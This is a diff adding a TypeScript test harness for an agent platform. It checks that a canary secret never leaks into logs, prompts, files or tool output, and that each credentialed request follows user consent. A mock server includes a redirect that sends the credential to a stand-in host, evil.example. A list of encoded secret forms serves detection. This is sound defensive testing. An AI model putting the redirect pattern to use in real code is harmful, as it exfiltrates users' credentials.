@@ -1,0 +1,174 @@
+// A hostile agent against real packs, processes, sandboxes and a real wire. After every call it is checked that the canary is nowhere but in
+// the store and on the wire, and that each request with a credential has a yes of the person before it.
+import assert from "node:assert/strict";
+import { lstatSync, readdirSync, readFileSync } from "node:fs";
+import { join } from "node:path";
+import { newAccountId, packKey } from "../../platform/accounts/accounts.ts";
+import { snapshotOf } from "../../platform/accounts/configuration-snapshot.ts";
+import type { Consent } from "../../platform/agents/agent-host.ts";
+import { callTool, type ToolResult } from "../../platform/agents/call-tool.ts";
+import type { ConsentQuestion } from "../../platform/agents/consent-question.ts";
+import type { Credential } from "../../platform/secrets/credential.ts";
+import { type AgentTrial, agentIn } from "./agent.ts";
+import type { TestHostOptions } from "./platform-host.ts";
+import type { Responder, SuiteWire, WireRequest } from "./wire.ts";
+
+export const CANARY = 'canary/+"7f3a&Zq secret';
+
+/** Every form in which a person or a program would look for the canary. */
+const FORMS = [
+  CANARY,
+  [...CANARY].reverse().join(""),
+  encodeURIComponent(CANARY),
+  new URLSearchParams({ "": CANARY }).toString().slice(1),
+  JSON.stringify(CANARY).slice(1, -1),
+  CANARY.replaceAll("&", "&amp;").replaceAll('"', "&quot;"),
+  Buffer.from(CANARY).toString("base64"),
+  Buffer.from(`me:${CANARY}`).toString("base64"),
+  Buffer.from(CANARY).toString("hex"),
+  "7f3a&Zq",
+  "7f3a%26Zq",
+  "7f3a\\u0026Zq",
+];
+
+const findForm = (text: string): string | undefined =>
+  FORMS.find((form) => text.includes(form) || text.includes(JSON.stringify(form).slice(1, -1)));
+
+const carriesCanary = ({ path, headers, body }: WireRequest): boolean =>
+  findForm(`${path} ${Object.values(headers).join(" ")} ${body}`) !== undefined || String(headers.authorization).startsWith("AWS4-");
+
+export const factOf = ({ facts }: ConsentQuestion, label: string): string => facts.find((fact) => fact.label === label)?.text ?? "";
+
+/** What happened, in order. */
+type Event = { readonly yes: ConsentQuestion } | { readonly request: WireRequest };
+
+export interface Hostile extends Omit<AgentTrial, "answers" | "call"> {
+  /** The person's next answers; the last one repeats. Without one the person agrees. `onAsk` comes first. */
+  answers: Consent[];
+  onAsk: ((question: ConsentQuestion) => unknown) | undefined;
+  api: Responder;
+  readonly progress: string[];
+  /** Calls a tool, and checks what every call must leave behind. */
+  call(tool: string, input?: unknown, signal?: AbortSignal): Promise<ToolResult>;
+  /** Runs a formula with the account Ada. Returns the result, or the failure, as JSON. */
+  run(target: string, more?: object): Promise<string>;
+  /** Stores an account of the pack, as a sign-in in the editor leaves it. */
+  store(credential: Credential, options?: { readonly pack?: string; readonly label?: string; readonly more?: object }): Promise<string>;
+  /** The requests since the start, as `METHOD host/path`. */
+  sent(): readonly string[];
+}
+
+export function hostileIn(folder: string, wire: SuiteWire, options: TestHostOptions = {}): Hostile {
+  const trial = agentIn(folder, { fetch: (url, init) => wire.fetch(url, init), lookUp: (host) => wire.lookup(host), ...options });
+  const events: Event[] = [];
+  const progress: string[] = [];
+  const { session, questions } = trial;
+  session.host.person.ask = async (question) => {
+    questions.push(question);
+    await hostile.onAsk?.(question);
+    const answer = (hostile.answers.length > 1 ? hostile.answers.shift() : hostile.answers[0]) ?? "agreed";
+    if (answer === "agreed") events.push({ yes: question });
+    return answer;
+  };
+  wire.respond = (request, response, raw) => {
+    events.push({ request });
+    hostile.api(request, response, raw);
+  };
+  const check = (result: ToolResult): void => {
+    const { logged, prompts, offered } = trial.platform;
+    const texts = [JSON.stringify([result, progress, questions, logged, prompts, offered]), ...filesIn(session.host.folder)];
+    for (const text of texts) assert.equal(findForm(text), undefined, `the canary is in ${text.slice(0, 3_000)}`);
+    assertPermitted(events);
+  };
+  const hostile: Hostile = {
+    ...trial,
+    answers: [],
+    onAsk: undefined,
+    api: reflect,
+    progress,
+    async call(tool, input, signal = new AbortController().signal) {
+      const result = await callTool(tool, input, { session, signal, progress: (message) => void progress.push(message) });
+      check(result);
+      return result;
+    },
+    async run(target, more = {}) {
+      return JSON.stringify(await hostile.call("run", { target, account: "Ada", ...more }));
+    },
+    async store(credential, { pack: path = "pack.ts", label = "Ada", more = {} } = {}) {
+      const pack = await session.host.openPack(join(session.host.folder, path));
+      const auth = pack.definition.userAuthentication;
+      pack.dispose();
+      assert.ok(auth);
+      const account = { id: newAccountId(), pack: packKey(pack.entry), entry: pack.entry, scope: "user" as const, type: auth.type, label };
+      await trial.accounts.save({ ...account, shared: true, createdAt: 1, configuration: snapshotOf(auth), ...more }, credential);
+      return account.id;
+    },
+    sent: () => wire.requests.map(({ method, host, path }) => `${method} ${host}${path}`),
+  };
+  return hostile;
+}
+
+/** An API at its worst: everything that it gets comes back, in the form that the path names. */
+export const reflect: Responder = ({ method, host, path, headers, body }, response) => {
+  const all = JSON.stringify({ method, host, path, headers, body });
+  const own = String(headers.authorization ?? headers["x-key"] ?? path);
+  const json = (text: string, status = 200): void => {
+    response.writeHead(status, { "content-type": "application/json", "x-echo": encodeURIComponent(all).slice(0, 4_000), "x-own": own });
+    response.end(text);
+  };
+  const text = (answer: string, type = "text/plain"): void => void response.writeHead(200, { "content-type": type }).end(answer);
+  const [kind = ""] = path.slice(1).split(/[?/]/);
+  const forms: Record<string, () => void> = {
+    fail: () => json(all, 500),
+    denied: () => json(all, 401),
+    text: () => text(all),
+    html: () => text(`<p>${own.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}</p>`, "text/html"),
+    base64: () => text(Buffer.from(own).toString("base64")),
+    hex: () => text(Buffer.from(own).toString("hex")),
+    percent: () => text(encodeURIComponent(own)),
+    unicode: () =>
+      text(`"${[...own].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, "0")}`).join("")}"`, "application/json"),
+    xml: () => text(`<a b="${own.replaceAll("&", "&#38;").replaceAll('"', "&#34;")}"/>`, "application/xml"),
+    redirect: () => void response.writeHead(302, { location: `/landed?was=${encodeURIComponent(own)}` }).end(),
+    again: () => void response.writeHead(307, { location: `/landed${path.slice("/again".length)}` }).end(),
+    away: () => void response.writeHead(307, { location: `https://evil.example/landed?was=${encodeURIComponent(own)}` }).end(),
+    cookie: () => void response.writeHead(200, { "set-cookie": `s=${encodeURIComponent(own)}`, "content-type": "text/plain" }).end("ok"),
+  };
+  (Object.hasOwn(forms, kind) ? forms[kind] : () => json(all))?.();
+};
+
+/** Each request with a credential needs a yes before it: a read for its host, any other request one of its own. */
+function assertPermitted(events: readonly Event[]): void {
+  const agreed: ConsentQuestion[] = [];
+  for (const event of events) {
+    if ("yes" in event) {
+      agreed.push(event.yes);
+      continue;
+    }
+    const { request } = event;
+    if (!carriesCanary(request)) continue;
+    const isRead = request.method === "GET" || request.method === "HEAD";
+    const isFor = (question: ConsentQuestion): boolean => {
+      if (question.title.startsWith("Sign in for"))
+        return (
+          factOf(question, "API")
+            .split("\n")
+            .some((domain) => request.host.endsWith(domain)) || factOf(question, "Provider").includes(request.host)
+        );
+      if (request.path === "/token") return question.title.startsWith("Renew ") || question.agree === "Allow reading";
+      if (factOf(question, "Host") !== request.host) return false;
+      return isRead ? question.agree === "Allow reading" : question.title.startsWith(`Send ${request.method} `);
+    };
+    const index = agreed.findIndex(isFor);
+    assert.ok(index >= 0, `${request.method} ${request.host}${request.path} was sent without a yes`);
+    if (!isRead && request.path !== "/token") agreed.splice(index, 1);
+  }
+}
+
+function filesIn(folder: string): readonly string[] {
+  return readdirSync(folder).flatMap((name) => {
+    const path = join(folder, name);
+    const stats = lstatSync(path);
+    return stats.isDirectory() ? filesIn(path) : stats.isFile() ? [readFileSync(path, "latin1")] : [];
+  });
+}
